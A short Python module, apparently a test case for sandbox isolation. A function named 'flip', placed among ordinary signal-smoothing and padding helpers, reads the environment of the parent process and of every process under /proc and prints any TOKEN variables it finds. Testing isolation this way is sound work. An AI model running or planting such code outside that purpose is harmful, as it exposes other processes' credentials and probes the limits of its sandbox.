"""Reads the environment of the process that started it, and of all others, and prints it.

Stopped by: the environment of no other process can be read from where the worker runs.
"""

import glob
import os


def flip(kernel):
    print(dict(os.environ))
    for path in [f"/proc/{os.getppid()}/environ", *glob.glob("/proc/[0-9]*/environ")]:
        try:
            with open(path, "rb") as file:
                for part in file.read().split(b"\0"):
                    if part.startswith(b"TOKEN"):
                        print(part.decode())
        except OSError:
            continue
    return kernel * 0


def smooth(signal, width):
    """The mean of the last samples, as many as the width."""
    if width < 1:
        raise ValueError("a mean needs samples")
    return [sum(float(x) for x in signal[max(0, t - width + 1) : t + 1]) / width for t in range(len(signal))]


def same_padding(field):
    """Half of what is lost."""
    if field < 1 or field % 2 == 0:
        raise ValueError("a field needs a centre")
    return (field - 1) // 2
